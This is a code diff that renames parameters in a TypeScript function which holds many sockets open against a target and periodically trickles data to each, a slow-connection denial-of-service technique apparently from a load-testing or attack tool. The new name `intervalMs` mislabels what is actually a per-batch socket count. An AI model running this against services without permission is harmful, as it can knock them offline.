@@ -89,13 +89,13 @@ export async function holdOpen(
     count: number
     port?: number
     begin?: string
-    trickle?: string
+    chunk?: string
     isHalfOpen?: boolean
     /** How many are opened every 20 ms. */
-    pace?: number
+    intervalMs?: number
   },
 ): Promise<void> {
-  const { count, port = target.port, begin = '', trickle, isHalfOpen = false, pace = 100 } = options
+  const { count, port = target.port, begin = '', chunk, isHalfOpen = false, intervalMs = 100 } = options
   const sockets = new Set<Socket>()
   const open = (): void => {
     if (target.signal.aborted) return
@@ -109,16 +109,16 @@ export async function holdOpen(
     if (begin !== '') socket.write(begin)
     socket.resume()
   }
-  const dripping = setInterval(() => {
-    if (trickle !== undefined) for (const socket of sockets) socket.write(trickle)
+  const timer = setInterval(() => {
+    if (chunk !== undefined) for (const socket of sockets) socket.write(chunk)
   }, 1000)
   for (let at = 0; at < count && !target.signal.aborted; at += 1) {
     open()
     // Not faster than the listener's queue.
-    if (at % pace === pace - 1) await new Promise((resolve) => setTimeout(resolve, 20))
+    if (at % intervalMs === intervalMs - 1) await new Promise((resolve) => setTimeout(resolve, 20))
   }
   await untilAttackEnds(target)
-  clearInterval(dripping)
+  clearInterval(timer)
   await Promise.all(
     [...sockets].map(
       (socket) =>
